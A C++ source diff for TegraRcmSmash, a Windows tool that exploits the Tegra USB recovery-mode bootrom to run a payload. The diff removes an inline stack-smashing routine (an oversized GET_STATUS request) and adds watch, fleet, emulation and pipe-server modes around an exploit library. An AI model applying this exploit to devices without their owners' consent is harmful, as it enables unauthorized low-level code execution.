@@ -1,237 +1,516 @@
 #include "Types.h"
 #include "ScopeGuard.h"
 #include "WinHandle.h"
-#include <assert.h>
 #include <tchar.h>
 #include <stdio.h>
 #include <io.h>
 #include <fcntl.h>
-#include <iostream>
-#include <fstream>
-#include <Shlwapi.h>
+#include <thread>
+#include <atomic>
+#include <chrono>
 #include "libusbk_int.h"
-#include "iniparse.h"
+#include "BootData.h"
+#include "BootManifest.h"
+#include "Crc32c.h"
+#include "MpmcQueue.h"
+#include "RcmSmash.h"
+#include "RcmSession.h"
+#include "ControlServer.h"
+#include "TraceWriter.h"
+#include "HotplugSource.h"
+#include "EmulatedDevice.h"
+#include "AsyncLogger.h"
+
+//gotDeviceEvent is set after every push, a consumer resets it before draining so no wakeup gets lost.
+//spaceAvailableEvent is set after every pop for producers that found the queue full, and cancelEvent
+//stays set once the console asked us to quit, so Ctrl+C never needs room in the queue
+static MpmcQueue<HotplugEvent, 64> hotplugEvents;
+static std::atomic<u32> hotplugQueueStalls(0);
+static WinHandle gotDeviceEvent;
+static WinHandle spaceAvailableEvent;
+static WinHandle cancelEvent;
+
+static void CreateHotplugEvents()
+{
+	gotDeviceEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
+	spaceAvailableEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
+	cancelEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
+}
+
+static bool CancelRequested()
+{
+	return WaitForSingleObject(cancelEvent.get(), 0) == WAIT_OBJECT_0;
+}
 
-class RCMDeviceHacker
+static bool PopHotplugEvent(HotplugEvent& outEvent)
 {
-public:
-	RCMDeviceHacker(KUSB_DRIVER_API& usbDriver_, KUSB_HANDLE usbHandle_) : usbHandle(usbHandle_), usbDriver(&usbDriver_), totalWritten(0), currentBuffer(0) {}
-	~RCMDeviceHacker() 
+	if (!hotplugEvents.pop(outEvent))
+		return false;
+
+	SetEvent(spaceAvailableEvent.get());
+	return true;
+}
+
+static void QueueHotplugEvent(HotplugEvent::Type eventType, KLST_DEVINFO_HANDLE deviceInfo)
+{
+	HotplugEvent newEvent;
+	newEvent.type = eventType;
+	if (deviceInfo != nullptr)
+		memcpy(&newEvent.deviceInfo, deviceInfo, sizeof(newEvent.deviceInfo));
+	else
+		memset(&newEvent.deviceInfo, 0, sizeof(newEvent.deviceInfo));
+
+	newEvent.eventTime = std::chrono::steady_clock::now();
+
+	// never drop an event while someone is going to consume it, if the consumers fell that far behind sleep until they make room
+	constexpr DWORD SPACE_WAIT_MS = 100;
+	for (;;)
 	{
-		if (usbHandle != nullptr)
-		{
-			usbDriver->Free(usbHandle);
-			usbHandle = nullptr;
-		}
+		ResetEvent(spaceAvailableEvent.get());
+		if (hotplugEvents.push(newEvent))
+			break;
+
+		hotplugQueueStalls++;
+		if (CancelRequested())
+			return;
+
+		HANDLE waitHandles[] = { spaceAvailableEvent.get(), cancelEvent.get() };
+		WaitForMultipleObjects((DWORD)array_countof(waitHandles), waitHandles, FALSE, SPACE_WAIT_MS);
 	}
 
-	static constexpr u32 PACKET_SIZE = 0x1000;
+	SetEvent(gotDeviceEvent.get());
+}
 
-	int getDriverVersion(libusbk::version_t& outVersion)
-	{
-		HANDLE masterHandle = INVALID_HANDLE_VALUE;
-		if (!libusbk_getInternals(usbHandle, &masterHandle) || masterHandle == nullptr || masterHandle == INVALID_HANDLE_VALUE)
-			return -int(ERROR_INVALID_HANDLE);
+static void ReportHotplugDispatch(const HotplugEvent& currEvent)
+{
+	const auto queuedMs = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - currEvent.eventTime).count();
+	LogPrint(LogLevel::Info, TEXT("Dispatched device %Ts event %.2f ms after it arrived (queue depth %u, high water mark %u of %u, %u stalls)\n"),
+		(currEvent.type == HotplugEvent::Type::Attached) ? TEXT("attach") : TEXT("detach"), queuedMs, (u32)hotplugEvents.depth(),
+		(u32)hotplugEvents.highWaterMark(), (u32)hotplugEvents.capacity(), hotplugQueueStalls.load());
+}
 
-		libusbk::libusb_request myRequest;
-		memset(&myRequest, 0, sizeof(myRequest));
+static constexpr u32 METRICS_INTERVAL_MS = 5000;
+static u32 deviceVid = 0x0955;
+static u32 devicePid = 0x7321;
+static const TCHAR* hotplugScriptFilename = nullptr;
 
-		const auto retVal = BlockingIoctl(masterHandle, libusbk::LIBUSB_IOCTL_GET_VERSION, &myRequest, sizeof(myRequest), &myRequest, sizeof(myRequest));
-		if (retVal > 0)
-			outVersion = myRequest.version;
+//The driver's notifications, or synthetic ones from --hotplug-script, feeding the queue above
+static int StartHotplugSource(std::unique_ptr<HotplugSource>& outSource, bool includeConnected)
+{
+	if (hotplugScriptFilename != nullptr)
+		outSource.reset(new ScriptedHotplugSource(hotplugScriptFilename));
+	else
+		outSource.reset(new UsbkHotplugSource());
 
-		return retVal;
-	}
-	int read(u8* outBuf, size_t outBufSize)
+	return outSource->start(deviceVid, devicePid, includeConnected, QueueHotplugEvent);
+}
+
+static WinHandle finishedUpEvent;
+static BOOL WINAPI ConsoleSignalHandler(DWORD signal)
+{
+	switch (signal)
 	{
-		UINT lengthTransferred = 0;
-		const auto retVal = usbDriver->ReadPipe(usbHandle, 0x81, outBuf, (UINT)outBufSize, &lengthTransferred, nullptr);
-		if (retVal == FALSE)
-			return -int(GetLastError());
+	case CTRL_CLOSE_EVENT:
+	case CTRL_LOGOFF_EVENT:
+	case CTRL_SHUTDOWN_EVENT:
+	case CTRL_C_EVENT:
+		SetEvent(cancelEvent.get());
+		if (WaitForSingleObject(finishedUpEvent.get(), 1000) == WAIT_OBJECT_0)
+			finishedUpEvent = WinHandle();
 		else
-			return int(lengthTransferred);
-	}
-	int write(const u8* data, size_t dataLen, size_t packetSize = PACKET_SIZE)
-	{
-		int bytesRemaining = (int)dataLen;
-		size_t bytesWritten = 0;
-		while (bytesRemaining > 0)
 		{
-			const size_t bytesToWrite = (bytesRemaining < (int)packetSize) ? bytesRemaining : (int)packetSize;
-			const auto retVal = writeSingleBuffer(&data[bytesWritten], bytesToWrite);
-			if (retVal < 0)
-				return retVal;
-			else if (retVal < (int)bytesToWrite)
-				return int(bytesWritten)+retVal;
-
-			bytesWritten += retVal;
-			bytesRemaining -= retVal;
+			// the process ends when we return, so don't leave the line in the queue
+			LogPrint(LogLevel::Error, TEXT("Timed out waiting for cleanup, forcibly closing\n"));
+			AsyncLogger::instance().flush();
 		}
+	default:
+		break;
+	}
+
+	return TRUE;
+}
+
+//The C API takes paths and data arguments as UTF-8
+static std::string ToUtf8(const TCHAR* str)
+{
+	return TraceWriter::NarrowUtf8(str);
+}
 
-		return (int)bytesWritten;
+//Smashes every matching device that is connected right now, up to maxConcurrent sessions at a time.
+//All sessions send from the same image and preloaded data. With numEmulated set, that many emulated devices
+//stand in for the connected ones, so the whole thing can run without any hardware
+static int RunFleetMode(RcmSmashContext_t* smashCtx, u32 maxConcurrent, u32 numEmulated)
+{
+	TraceSpan enumSpan("host", "enumerate");
+	KLST_HANDLE deviceList = nullptr;
+	if (numEmulated == 0 && !LstK_Init(&deviceList, KLST_FLAG_NONE))
+	{
+		const auto errorCode = GetLastError();
+		LogPrint(LogLevel::Error, TEXT("Got win32 error %u trying to list USB devices\n"), errorCode);
+		return -3;
 	}
-	int readDeviceId(u8* deviceIdBuf, size_t idBufSize)
+	auto lstKgrd = MakeScopeGuard([&deviceList]()
 	{
-		if (idBufSize < 0x10)
-			return -int(ERROR_INSUFFICIENT_BUFFER);
+		if (deviceList != nullptr)
+		{
+			LstK_Free(deviceList);
+			deviceList = nullptr;
+		}
+	});
 
-		return read(deviceIdBuf, 0x10);
+	vector<KLST_DEVINFO_HANDLE> devices;
+	vector<std::unique_ptr<EmulatedRcmDevice>> emulatedDevices;
+	if (numEmulated > 0)
+	{
+		for (u32 i=0; i<numEmulated; i++)
+		{
+			emulatedDevices.emplace_back(new EmulatedRcmDevice(i, deviceVid, devicePid));
+			devices.push_back(emulatedDevices.back()->getDeviceInfo());
+		}
+		LogPrint(LogLevel::Info, TEXT("Emulating %u devices\n"), numEmulated);
 	}
-	int switchToHighBuffer()
+	else
 	{
-		if (currentBuffer == 0)
+		KLST_DEVINFO_HANDLE deviceInfo = nullptr;
+		LstK_MoveReset(deviceList);
+		while (LstK_MoveNext(deviceList, &deviceInfo) && deviceInfo != nullptr)
 		{
-			u8 tempZeroDatas[PACKET_SIZE];
-			memset(tempZeroDatas, 0, sizeof(tempZeroDatas));
+			if (deviceInfo->Common.Vid == deviceVid && deviceInfo->Common.Pid == devicePid)
+				devices.push_back(deviceInfo);
+		}
+	}
+	enumSpan.end();
+	if (devices.size() == 0)
+	{
+		LogPrint(LogLevel::Error, TEXT("No TegraRCM devices found\n"));
+		return -3;
+	}
 
-			const auto writeRes = write(tempZeroDatas, sizeof(tempZeroDatas));
-			if (writeRes < 0)
-				return writeRes;
+	const vector<void*> deviceInfos(devices.begin(), devices.end());
+	vector<RcmSmashResult_t> results(devices.size());
+	const auto fleetStart = std::chrono::steady_clock::now();
+	rcmsmash_run_devices(smashCtx, deviceInfos.data(), deviceInfos.size(), maxConcurrent, results.data());
 
-			assert(currentBuffer != 0);
-			return writeRes;
+	u32 numFailed = 0;
+	LogPrint(LogLevel::Info, TEXT("Fleet results (%.1f ms overall):\n"), MillisecondsSince(fleetStart));
+	for (size_t i=0; i<devices.size(); i++)
+	{
+		const auto& currResult = results[i];
+		char idStr[sizeof(currResult.deviceId)*2+1] = "unknown";
+		if (currResult.gotDeviceId)
+		{
+			for (size_t j=0; j<sizeof(currResult.deviceId); j++)
+				sprintf_s(&idStr[j*2], sizeof(idStr)-j*2, "%02X", (u32)currResult.deviceId[j]);
 		}
-		else
-			return 0;
+
+		LogPrint(LogLevel::Info, TEXT("  %hs (id %hs): %Ts with result %d, upload %.1f ms, smash %.1f ms, total %.1f ms\n"), devices[i]->DevicePath, idStr, 
+			(currResult.result == 0) ? TEXT("succeeded") : TEXT("FAILED"), currResult.result, currResult.uploadMs, currResult.smashMs, currResult.totalMs);
+
+		if (currResult.result != 0)
+			numFailed++;
 	}
-	int smashTheStack(int length=-1)
+	LogPrint(LogLevel::Info, TEXT("%u of %u devices booted successfully\n"), (u32)devices.size()-numFailed, (u32)devices.size());
+	PrintDataCacheUsage();
+
+	return (numFailed > 0) ? -12 : 0;
+}
+
+//What --watch rebuilds from when something on disk changes, everything else stays as it was set on the context
+struct WatchInputs
+{
+	const TCHAR* inputFilename;
+	const TCHAR* mezzoFilename; //nullptr when using the builtin relocator or none at all
+	const TCHAR* iniFilename;
+	vector<const TCHAR*> dataArguments; //from the command line, the ini gets merged on top of these
+};
+
+//Keeps the image prebuilt and the data files loaded, re-reading only what changed on disk,
+//and runs a session with the latest state every time a device shows up
+static int RunWatchMode(const WatchInputs& inputs, RcmSmashContext_t* smashCtx)
+{
+	// the change notifications below say when to go to the disk, the sessions never do
+	rcmsmash_set_reload_files(smashCtx, 0);
+
+	bool iniLoaded = false, iniParsedBefore = false, payloadLoaded = false, mezzoLoaded = (inputs.mezzoFilename == nullptr);
+	FileStamp iniStamp, payloadStamp, mezzoStamp;
+	auto RefreshInputs = [&]() -> int
 	{
-		constexpr u32 STACK_END = 0x40010000;
+		FileStamp currStamp;
+		if (inputs.iniFilename != nullptr)
+			GetFileStamp(inputs.iniFilename, currStamp);
 
-		if (length < 0)
-			length = STACK_END - getCurrentBufferAddress();
-		
-		if (length < 1)
-			return 0;
+		if (!iniLoaded || currStamp != iniStamp)
+		{
+			// an ini that doesn't parse leaves the data half built, so it gets parsed again on the next refresh
+			iniLoaded = false;
+			rcmsmash_clear_data(smashCtx);
+			for (auto currArg : inputs.dataArguments)
+			{
+				const auto argRes = rcmsmash_add_argument(smashCtx, ToUtf8(currArg).c_str());
+				if (argRes != 0)
+					return argRes;
+			}
+			if (inputs.iniFilename != nullptr)
+			{
+				const auto parseRes = rcmsmash_load_ini(smashCtx, ToUtf8(inputs.iniFilename).c_str());
+				if (parseRes != 0)
+					return parseRes;
+			}
 
-		HANDLE masterHandle = INVALID_HANDLE_VALUE;
-		if (!libusbk_getInternals(usbHandle, &masterHandle) || masterHandle == nullptr || masterHandle == INVALID_HANDLE_VALUE)
-			return -int(ERROR_INVALID_HANDLE);
+			if (iniParsedBefore)
+				LogPrint(LogLevel::Info, TEXT("Reparsed ini '%Ts'\n"), inputs.iniFilename);
 
-		libusbk::libusb_request rawRequest;
-		memset(&rawRequest, 0, sizeof(rawRequest));
-		rawRequest.timeout = 1000; //ms
-		rawRequest.status.index = 0;
-		rawRequest.status.recipient = 0x02; //RECIPIENT_ENDPOINT
+			iniStamp = currStamp;
+			iniLoaded = iniParsedBefore = true;
+		}
 
-		ByteVector threshBuf(length, 0);
-		const auto retVal = BlockingIoctl(masterHandle, libusbk::LIBUSB_IOCTL_GET_STATUS, &rawRequest, sizeof(rawRequest), &threshBuf[0], threshBuf.size());
-		if (retVal < 0)
+		GetFileStamp(inputs.inputFilename, currStamp);
+		if (!payloadLoaded || currStamp != payloadStamp)
 		{
-			const auto theError = -retVal;
-			if (theError == ERROR_SEM_TIMEOUT) //timed out, which means it probably smashed
-				return (int)threshBuf.size();
+			const auto readFileRes = rcmsmash_set_payload_file(smashCtx, ToUtf8(inputs.inputFilename).c_str());
+			if (readFileRes != 0)
+				return readFileRes;
 
-			return theError;
+			payloadStamp = currStamp;
+			payloadLoaded = true;
 		}
-		else
-			return retVal;
-	}
-protected:
-	u32 getCurrentBufferAddress() const 
-	{
-		return (currentBuffer == 0) ? 0x40005000u : 0x40009000u;
-	}
-	u32 toggleBuffer()
-	{
-		const auto prevBuffer = currentBuffer;
-		currentBuffer = (currentBuffer == 0) ? 1u : 0u;
-		return prevBuffer;
-	}	
-	int writeSingleBuffer(const u8* data, size_t dataLen)
-	{
-		toggleBuffer();
 
-		UINT lengthTransferred = 0;
-		const auto retVal = usbDriver->WritePipe(usbHandle, 0x01, (u8*)data, (UINT)dataLen, &lengthTransferred, nullptr);
-		if (retVal == FALSE)
-			return -int(GetLastError());
-		else
-			return (int)lengthTransferred;
-	}
+		if (inputs.mezzoFilename != nullptr)
+		{
+			GetFileStamp(inputs.mezzoFilename, currStamp);
+			if (!mezzoLoaded || currStamp != mezzoStamp)
+			{
+				const auto readFileRes = rcmsmash_set_relocator_file(smashCtx, ToUtf8(inputs.mezzoFilename).c_str());
+				if (readFileRes != 0)
+					return readFileRes;
 
-	static int BlockingIoctl(HANDLE driverHandle, DWORD ioctlCode, const void* inputBytes, size_t numInputBytes, void* outputBytes, size_t numOutputBytes)
+				mezzoStamp = currStamp;
+				mezzoLoaded = true;
+			}
+		}
+
+		// sections that still point at the same unchanged file range keep their bytes, the image only gets rebuilt if its inputs changed
+		return rcmsmash_prepare(smashCtx);
+	};
+
+	// One change notification per directory holding an input, re-armed after every refresh
+	vector<HANDLE> changeHandles;
+	auto CloseChangeHandles = [&changeHandles]()
 	{
-		WinHandle theEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
-		if (theEvent.get() == nullptr || theEvent.get() == INVALID_HANDLE_VALUE)
-			return false;
+		for (auto currHandle : changeHandles)
+			FindCloseChangeNotification(currHandle);
 
-		OVERLAPPED overlapped;
-		memset(&overlapped, 0, sizeof(overlapped));
-		if (DeviceIoControl(driverHandle, ioctlCode, (LPVOID)inputBytes, (DWORD)numInputBytes, (LPVOID)outputBytes, (DWORD)numOutputBytes, nullptr, &overlapped) == FALSE)
+		changeHandles.clear();
+	};
+	auto changeGrd = MakeScopeGuard(CloseChangeHandles);
+	bool pollForChanges = false;
+	auto WatchDirectories = [&]()
+	{
+		CloseChangeHandles();
+		pollForChanges = false;
+
+		vector<WinString> watchedFiles;
+		watchedFiles.push_back(inputs.inputFilename);
+		if (inputs.mezzoFilename != nullptr)
+			watchedFiles.push_back(inputs.mezzoFilename);
+		if (inputs.iniFilename != nullptr)
+			watchedFiles.push_back(inputs.iniFilename);
+		rcmsmash_list_data_files(smashCtx, [](void* userData, const char* filename) { ((vector<WinString>*)userData)->push_back(WidenUtf8(filename)); }, &watchedFiles);
+
+		vector<WinString> watchedDirs;
+		for (const auto& currFile : watchedFiles)
 		{
-			const auto errCode = GetLastError();
-			if (errCode != ERROR_IO_PENDING)
-				return -int(errCode);
+			TCHAR absDirPath[2048];
+			absDirPath[0] = 0;
+
+			TCHAR* filePart = nullptr;
+			size_t pathLen = GetFullPathName(currFile.c_str(), (unsigned int)array_countof(absDirPath)-1, absDirPath, &filePart);
+			if (filePart != nullptr)
+				pathLen = filePart-absDirPath;
+
+			const WinString currDir(absDirPath, pathLen);
+			if (std::find_if(watchedDirs.cbegin(), watchedDirs.cend(), [&currDir](const WinString& dir) { return _tcsicmp(dir.c_str(), currDir.c_str()) == 0; }) == watchedDirs.cend())
+				watchedDirs.push_back(currDir);
 		}
 
-		DWORD bytesReceived = 0;
-		if (GetOverlappedResult(driverHandle, &overlapped, &bytesReceived, TRUE) == FALSE)
+		for (const auto& currDir : watchedDirs)
 		{
-			const auto errCode = GetLastError();
-			return -int(errCode);
+			// the device event takes one of the wait slots
+			if (changeHandles.size() >= MAXIMUM_WAIT_OBJECTS-1)
+			{
+				pollForChanges = true;
+				break;
+			}
+
+			const auto changeHandle = FindFirstChangeNotification(currDir.c_str(), FALSE, FILE_NOTIFY_CHANGE_FILE_NAME | FILE_NOTIFY_CHANGE_SIZE | FILE_NOTIFY_CHANGE_LAST_WRITE);
+			if (changeHandle == INVALID_HANDLE_VALUE)
+			{
+				LogPrint(LogLevel::Error, TEXT("Couldn't watch directory '%Ts' (win32 error %u), checking it periodically instead\n"), currDir.c_str(), GetLastError());
+				pollForChanges = true;
+				continue;
+			}
+
+			changeHandles.push_back(changeHandle);
 		}
+	};
 
-		return (int)bytesReceived;
-	}
+	bool inputsReady = (RefreshInputs() == 0);
+	WatchDirectories();
 
-	KUSB_HANDLE usbHandle;
-	KUSB_DRIVER_API* usbDriver;
-	size_t totalWritten;
-	u32 currentBuffer;
-};
+	CreateHotplugEvents();
+	finishedUpEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
+	LogPrint(LogLevel::Info, TEXT("Watching inputs\n"));
 
-static KLST_DEVINFO pluggedInDevice;
-static WinHandle gotDeviceEvent;
+	std::unique_ptr<HotplugSource> hotplugSource;
+	const auto hotplugRes = StartHotplugSource(hotplugSource, true); //a device that is already connected gets smashed right away
+	if (hotplugRes != 0)
+		return hotplugRes;
 
-static u32 deviceVid = 0x0955;
-static u32 devicePid = 0x7321;
-static void KUSB_API HotPlugEventCallback(KHOT_HANDLE Handle, KLST_DEVINFO_HANDLE DeviceInfo, KLST_SYNC_FLAG NotificationType)
-{
-	if (NotificationType == KLST_SYNC_FLAG_ADDED && DeviceInfo != nullptr &&
-		DeviceInfo->Common.Vid == deviceVid && DeviceInfo->Common.Pid == devicePid)
+	SetConsoleCtrlHandler(ConsoleSignalHandler, TRUE);
+	auto signalGrd = MakeScopeGuard([]() { SetConsoleCtrlHandler(ConsoleSignalHandler, FALSE); });
+
+	constexpr DWORD SETTLE_TIME_MS = 100; //editors and linkers tend to write a file in several steps
+	constexpr DWORD POLL_INTERVAL_MS = 1000;
+	u32 numUploads = 0;
+	double minLatencyMs = 0, maxLatencyMs = 0, totalLatencyMs = 0, totalOpenLatencyMs = 0;
+	for (;;)
 	{
-		memcpy(&pluggedInDevice, DeviceInfo, sizeof(pluggedInDevice));
-		SetEvent(gotDeviceEvent.get());
+		if (!inputsReady)
+			LogPrint(LogLevel::Info, TEXT("Inputs aren't usable yet, waiting for them to change\n"));
+
+		vector<HANDLE> waitHandles;
+		waitHandles.push_back(cancelEvent.get());
+		waitHandles.push_back(gotDeviceEvent.get());
+		waitHandles.insert(waitHandles.end(), changeHandles.begin(), changeHandles.end());
+
+		const auto waitRes = WaitForMultipleObjects((DWORD)waitHandles.size(), &waitHandles[0], FALSE, pollForChanges ? POLL_INTERVAL_MS : INFINITE);
+		if (waitRes == WAIT_OBJECT_0)
+		{
+			LogPrint(LogLevel::Info, TEXT("Exiting due to user cancellation\n"));
+			SetEvent(finishedUpEvent.get());
+			return 0;
+		}
+		else if (waitRes == WAIT_OBJECT_0+1)
+		{
+			ResetEvent(gotDeviceEvent.get());
+
+			// devices that attached while a session was running get their turn one after another, unless we were told to quit in the meantime
+			HotplugEvent currEvent;
+			while (!CancelRequested() && PopHotplugEvent(currEvent))
+			{
+				ReportHotplugDispatch(currEvent);
+				if (currEvent.type != HotplugEvent::Type::Attached || currEvent.deviceInfo.Connected != TRUE)
+					continue;
+
+				// the change notifications keep everything current, so only go to the disk if one hasn't been handled yet
+				const bool changesPending = pollForChanges || (changeHandles.size() > 0 &&
+					WaitForMultipleObjects((DWORD)changeHandles.size(), &changeHandles[0], FALSE, 0) != WAIT_TIMEOUT);
+				if (!inputsReady || changesPending)
+				{
+					inputsReady = (RefreshInputs() == 0);
+					if (!inputsReady)
+						continue;
+				}
+
+				// the result's times start with the call, the time the event spent getting here goes in front of them
+				const auto queuedMs = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - currEvent.eventTime).count();
+				RcmSmashResult_t sessionResult;
+				const auto sessionRes = rcmsmash_run_device(smashCtx, &currEvent.deviceInfo, &sessionResult);
+				if (sessionResult.uploadStartMs > 0)
+				{
+					const auto openLatencyMs = queuedMs + sessionResult.openedMs;
+					const auto latencyMs = queuedMs + sessionResult.uploadStartMs;
+					minLatencyMs = (numUploads == 0) ? latencyMs : std::min(minLatencyMs, latencyMs);
+					maxLatencyMs = (numUploads == 0) ? latencyMs : std::max(maxLatencyMs, latencyMs);
+					totalLatencyMs += latencyMs;
+					totalOpenLatencyMs += openLatencyMs;
+					numUploads++;
+
+					LogPrint(LogLevel::Info, TEXT("Attach to open latency %.2f ms (avg %.2f), attach to upload latency %.2f ms (min %.2f, avg %.2f, max %.2f over %u devices)\n"),
+						openLatencyMs, totalOpenLatencyMs/numUploads, latencyMs, minLatencyMs, totalLatencyMs/numUploads, maxLatencyMs, numUploads);
+				}
+				else if (sessionResult.openedMs > 0)
+				{
+					LogPrint(LogLevel::Info, TEXT("Attach to open latency %.2f ms\n"), queuedMs + sessionResult.openedMs);
+				}
+				LogPrint(LogLevel::Info, TEXT("Device session finished with result %d, waiting for the next device\n"), sessionRes);
+				PrintDataCacheUsage();
+			}
+		}
+		else if (waitRes > WAIT_OBJECT_0+1 && waitRes < WAIT_OBJECT_0+waitHandles.size())
+		{
+			Sleep(SETTLE_TIME_MS);
+			inputsReady = (RefreshInputs() == 0);
+			WatchDirectories();
+		}
+		else if (waitRes == WAIT_TIMEOUT)
+			inputsReady = (RefreshInputs() == 0);
+		else
+		{
+			const auto errorCode = GetLastError();
+			LogPrint(LogLevel::Error, TEXT("Waiting for device or file changes failed with win32 error %u\n"), errorCode);
+			return -4;
+		}
 	}
 }
 
-static WinHandle finishedUpEvent;
-static BOOL WINAPI ConsoleSignalHandler(DWORD signal)
+//Hands every attached device to the control server, which runs whatever jobs its pipe clients queue up for it
+static int RunServeMode(const TCHAR* pipeName, const ByteVector& mezzoBuf, bool readbackUsb, const TCHAR* metricsFilename)
 {
-	switch (signal)
+	// the jobs' sessions don't go through the C API, so the numbers are kept here instead of on a context
+	BootMetrics bootMetrics;
+	if (metricsFilename != nullptr)
 	{
-	case CTRL_CLOSE_EVENT:
-	case CTRL_LOGOFF_EVENT:
-	case CTRL_SHUTDOWN_EVENT:
-	case CTRL_C_EVENT:
-		memset(&pluggedInDevice, 0, sizeof(pluggedInDevice));
-		SetEvent(gotDeviceEvent.get());
-		if (WaitForSingleObject(finishedUpEvent.get(), 1000) == WAIT_OBJECT_0)
-			finishedUpEvent = WinHandle();
-		else
-			_ftprintf(stderr, TEXT("Timed out waiting for cleanup, forcibly closing\n"));
-	default:
-		break;
+		const auto exportRes = bootMetrics.startExport(metricsFilename, METRICS_INTERVAL_MS);
+		if (exportRes != 0)
+			return exportRes;
 	}
 
-	return TRUE;
-}
+	ControlServer server(mezzoBuf, readbackUsb, (metricsFilename != nullptr) ? &bootMetrics : nullptr);
+	const auto startRes = server.start(pipeName);
+	if (startRes != 0)
+		return startRes;
 
-static int WrappedPrintToErr(const char* format, ...)
-{
-	char tempBuf[1024];
-	tempBuf[0] = 0;
+	CreateHotplugEvents();
+	finishedUpEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
 
-	va_list vargs;
-	va_start(vargs, format);
-	int numPrinted = vsprintf_s(tempBuf, format, vargs);
-	va_end(vargs);
+	std::unique_ptr<HotplugSource> hotplugSource;
+	const auto hotplugRes = StartHotplugSource(hotplugSource, true); //devices that are already connected wait for jobs too
+	if (hotplugRes != 0)
+		return hotplugRes;
 
-	WinString widened(&tempBuf[0], &tempBuf[numPrinted]);
-	_ftprintf(stderr, widened.c_str());
+	SetConsoleCtrlHandler(ConsoleSignalHandler, TRUE);
+	auto signalGrd = MakeScopeGuard([]() { SetConsoleCtrlHandler(ConsoleSignalHandler, FALSE); });
+
+	for (;;)
+	{
+		HANDLE waitHandles[] = { cancelEvent.get(), gotDeviceEvent.get() };
+		const auto waitRes = WaitForMultipleObjects((DWORD)array_countof(waitHandles), waitHandles, FALSE, INFINITE);
+		if (waitRes == WAIT_OBJECT_0)
+		{
+			LogPrint(LogLevel::Info, TEXT("Exiting due to user cancellation\n"));
+			server.stop();
+			SetEvent(finishedUpEvent.get());
+			return 0;
+		}
+		else if (waitRes != WAIT_OBJECT_0+1)
+		{
+			const auto errorCode = GetLastError();
+			LogPrint(LogLevel::Error, TEXT("Waiting for devices failed with win32 error %u\n"), errorCode);
+			return -4;
+		}
+		ResetEvent(gotDeviceEvent.get());
 
-	return numPrinted;
+		HotplugEvent currEvent;
+		while (PopHotplugEvent(currEvent))
+		{
+			ReportHotplugDispatch(currEvent);
+			if (currEvent.type == HotplugEvent::Type::Attached && currEvent.deviceInfo.Connected == TRUE)
+				server.deviceAttached(currEvent.deviceInfo);
+			else if (currEvent.type == HotplugEvent::Type::Detached)
+				server.deviceDetached(currEvent.deviceInfo);
+		}
+	}
 }
 
 int _tmain(int argc, TCHAR* argv[])
@@ -245,47 +524,31 @@ int _tmain(int argc, TCHAR* argv[])
 	const TCHAR DEFAULT_MEZZO_FILENAME[] = TEXT("intermezzo.bin");
 	const TCHAR* mezzoFilename = DEFAULT_MEZZO_FILENAME;
 	const TCHAR* iniFilename = nullptr;
+	const TCHAR* profileFilename = nullptr;
+	const TCHAR* manifestFilename = nullptr;
+	const TCHAR* routesFilename = nullptr;
+	const TCHAR* metricsFilename = nullptr;
+	const TCHAR* traceFilename = nullptr;
+	const TCHAR* captureFilename = nullptr;
 	const TCHAR* inputFilename = nullptr;
+	const TCHAR* servePipeName = nullptr;
 	bool waitForDevice = false;
 	bool readbackUsb = false;
-
-	struct LoadDataItem
-	{
-		std::string name;
-		WinString filename;
-		size_t offset = 0;
-		size_t maxCount = 0;
-		size_t address = 0;
-		bool reloaded = false;
-		ByteVector dataBytes;
-	};
-	vector<LoadDataItem> loadData;
-
-	struct CopyDataItem
-	{
-		std::string name;
-		size_t srcaddr = 0;
-		size_t srclen = 0;
-		size_t dstaddr = 0;
-		size_t dstlen = 0;
-		u32 copyType = 0;
-	};
-	vector<CopyDataItem> copyData;
-
-	struct BootDataItem
-	{
-		std::string name;
-		WinString filename;
-		size_t pc = 0;
-	};
-	vector<BootDataItem> bootData;
+	bool watchMode = false;
+	bool fleetMode = false;
+	u32 fleetConcurrency = 0;
+	u32 numEmulated = 0;
+	LowJitterSettings lowJitter;
+	LogLevel logLevel = LogLevel::Verbose;
+	vector<const TCHAR*> dataArguments;
 	
 	auto PrintUsage = []() -> int
 	{
-		_tprintf(TEXT("Usage: TegraRcmSmash.exe [-V 0x0955] [-P 0x7321] [--relocator=intermezzo.bin] [-w] inputFilename.bin [-r] [--dataini=coreboot.ini] ([PARAM:VALUE]|[0xADDR:filename])*\n"));
+		_tprintf(TEXT("Usage: TegraRcmSmash.exe [-V 0x0955] [-P 0x7321] [--relocator=intermezzo.bin] [-w] [--watch] [--fleet[=4]] [--emulate=4] inputFilename.bin [-r] [--capture=output.bin] [--dataini=coreboot.ini] [--accessprofile=coreboot.prof] [--manifest=coreboot.manifest] [--routes=devices.routes] [--serve[=\\\\.\\pipe\\TegraRcmSmash]] [--metrics=rcmsmash.prom] [--trace=boot.json] [--hotplug-script=events.txt] [--lowjitter[=cpu]] [--loglevel=error|info|verbose] ([PARAM:VALUE]|[0xADDR:filename])*\n"));
 		return -1;
 	};
 
+	const auto argsStart = std::chrono::steady_clock::now();
 	const TCHAR HEXA_PREFIX[] = TEXT("0x");
 	for (int i=1; i<argc; i++)
 	{
@@ -293,13 +556,33 @@ int _tmain(int argc, TCHAR* argv[])
 
 		const TCHAR RELOCATOR_ARGUMENT[] = TEXT("--relocator");
 		const TCHAR INIFILE_ARGUMENT[] = TEXT("--dataini");
+		const TCHAR PROFILE_ARGUMENT[] = TEXT("--accessprofile");
+		const TCHAR MANIFEST_ARGUMENT[] = TEXT("--manifest");
+		const TCHAR ROUTES_ARGUMENT[] = TEXT("--routes");
+		const TCHAR METRICS_ARGUMENT[] = TEXT("--metrics");
+		const TCHAR TRACE_ARGUMENT[] = TEXT("--trace");
+		const TCHAR HOTPLUG_SCRIPT_ARGUMENT[] = TEXT("--hotplug-script");
+		const TCHAR CAPTURE_ARGUMENT[] = TEXT("--capture");
 		const TCHAR VENDOR_ARGUMENT[] = TEXT("-V");
 		const TCHAR PRODUCT_ARGUMENT[] = TEXT("-P");
 		const TCHAR WAIT_ARGUMENT[] = TEXT("-w");
 		const TCHAR READBACK_ARGUMENT[] = TEXT("-r");
+		const TCHAR WATCH_ARGUMENT[] = TEXT("--watch");
